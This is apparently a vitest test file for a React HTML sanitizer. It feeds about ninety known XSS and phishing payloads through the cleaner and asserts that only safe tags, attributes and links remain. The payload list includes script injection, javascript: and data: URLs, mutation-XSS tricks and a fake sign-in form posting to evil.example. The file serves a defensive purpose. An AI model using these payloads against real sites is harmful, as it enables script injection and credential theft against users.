// @vitest-environment jsdom
// The cleaner walks a real DOM tree, and happy-dom's walker skips nodes: here only a standard one proves anything.
import { render } from '@testing-library/react'
import { describe, expect, it } from 'vitest'
import { cleanHtml, SafeHtml, UserText } from './safe-html.tsx'

/** Payloads that ran, phished or fetched somewhere once. None may leave anything but words and plain marks. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<img src=javascript:alert(1)>',
  '<img srcset="https://evil.example/a 1x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x"></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code=x>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<select onchange=alert(1)><option>1</select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<video src=x onerror=alert(1)></video>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<picture><source srcset=https://evil.example/x></picture>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<link rel=prefetch href=https://evil.example/x>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="position:fixed;inset:0">Sign in again</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="http://evil.example">plain http</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="https://user:pass@evil.example">x</a>',
  '<a href="https:\\\\evil.example">x</a>',
  '<a href="ftp://evil.example">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://evil.example/x">x</a>',
  '<a href="mailto:x@evil.example">x</a>',
  '<a href="tel:123">x</a>',
  '<a href="ms-settings:">x</a>',
  '<a ping="https://evil.example" href="/x">x</a>',
  '<a href="https://evil.example" target=_self rel=opener>x</a>',
  '<a onclick=alert(1) href="/x">x</a>',
  '<div onmouseover="alert(1)">x</div>',
  '<p id="token" name="user" class="snackbar">x</p>',
  '<form id=document><input name=cookie></form>',
  '<a id=defaultView href="/x">x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<table background="https://evil.example/x"><tr><td background="https://evil.example/y">x</td></tr></table>',
  '<dialog open>Your session has ended</dialog>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<p data-at="0:0" aria-label="Confirm orders" role=button tabindex=0>x</p>',
  '<div contenteditable autofocus onfocus=alert(1)>x</div>',
  '<p is="x-evil">x</p>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href="https://evil.example"><img src=x></a>',
  '<ul><li><svg/onload=alert(1)></li></ul>',
  '<portal src="https://evil.example">',
  '<frameset onload=alert(1)>',
  '<isindex action="javascript:alert(1)" type=image>',
]

const allowedTags = new Set(
  'p br hr h1 h2 h3 h4 h5 h6 blockquote div span b strong i em u s del mark small sub sup code pre kbd ul ol li dl dt dd a table caption thead tbody tfoot tr th td'.split(
    ' ',
  ),
)
const allowedAttributes = new Set(['href', 'title', 'colspan', 'rowspan', 'scope', 'start', 'target', 'rel'])

function inspect(html: string): string[] {
  const page = new DOMParser().parseFromString(cleanHtml(html), 'text/html')
  return [...page.body.querySelectorAll('*')].flatMap((element) => {
    const found: string[] = []
    if (!allowedTags.has(element.localName)) found.push(`<${element.localName}>`)
    for (const { name, value } of [...element.attributes]) {
      if (!allowedAttributes.has(name)) found.push(name)
      if (name === 'href' && !/^(?:https:\/\/[^/@]+(?:\/|$)|\/(?![/\\])|#)/.test(value)) found.push(`href=${value}`)
      if (name === 'rel' && !value.includes('noopener')) found.push(`rel=${value}`)
    }
    return found
  })
}

describe('safe HTML', () => {
  it('is tried with at least 60 hostile payloads', () => {
    expect(new Set(hostile).size).toBeGreaterThanOrEqual(60)
  })

  it.each(hostile)('leaves nothing of %s but words and plain marks', (payload) => {
    expect(inspect(payload)).toEqual([])
    expect(inspect(`<p>before</p>${payload}<p>after</p>`)).toEqual([])
  })

  it('keeps the words, tables and links of an answer', () => {
    const answer =
      '<h2>61 companies</h2><p><b>ROCE</b> above <em>20%</em></p><table><thead><tr><th scope="col">Company</th></tr></thead><tbody><tr><td colspan="2">TCS</td></tr></tbody></table><p><a href="/company/TCS">TCS</a></p>'
    expect(cleanHtml(answer)).toBe(
      answer.replace('href="/company/TCS"', 'href="/company/TCS" rel="noopener noreferrer nofollow"'),
    )
  })

  it('opens an outside link beside the page without an opener', () => {
    const { container } = render(<SafeHtml html='<a href="https://www.nseindia.com/x?y=1#z">NSE</a>' />)
    const link = container.querySelector('a')
    expect(link?.getAttribute('href')).toBe('https://www.nseindia.com/x?y=1#z')
    expect(link?.getAttribute('target')).toBe('_blank')
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
  })

  it('shows what a user typed as text', () => {
    const { container } = render(<UserText text="<img src=x onerror=alert(1)> & <b>bold</b>" />)
    expect(container.textContent).toBe('<img src=x onerror=alert(1)> & <b>bold</b>')
    expect(container.querySelector('img, b')).toBeNull()
  })

  it('cleans the same text to the same text again', () => {
    for (const payload of hostile) expect(cleanHtml(cleanHtml(payload))).toBe(cleanHtml(payload))
  })
})
